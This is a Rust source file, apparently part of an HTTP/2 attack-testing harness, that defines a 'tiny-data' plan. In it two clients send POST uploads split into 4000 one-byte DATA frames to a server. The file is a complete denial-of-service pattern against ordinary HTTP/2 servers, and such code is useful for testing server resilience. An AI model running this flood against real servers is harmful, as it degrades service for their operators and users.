//! Content in DATA frames of one byte.

use crate::attack::{Plan, Victim};
use crate::http::{self, Method};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "tiny-data",
    labels: &["A81"],
    summary: "an upload in DATA frames of one byte each",
    victim: Victim::Server,
    make: || Box::new(tiny_data()),
};

fn tiny_data() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        // A new request in each turn, because unread content blocks at the stream's window.
        let Some(id) = progress.requests(connection, 1).next() else {
            return;
        };
        let mut bytes = http::request(Method::Post, "/");
        for _ in 0..FRAMES {
            bytes.extend(http::frame(http::DATA, &[0]));
        }
        for frame in http::stream_in_chunks(id, &bytes, true) {
            connection.push_bytes(frame);
        }
    })
}

/// DATA frames of one request.
const FRAMES: usize = 4000;
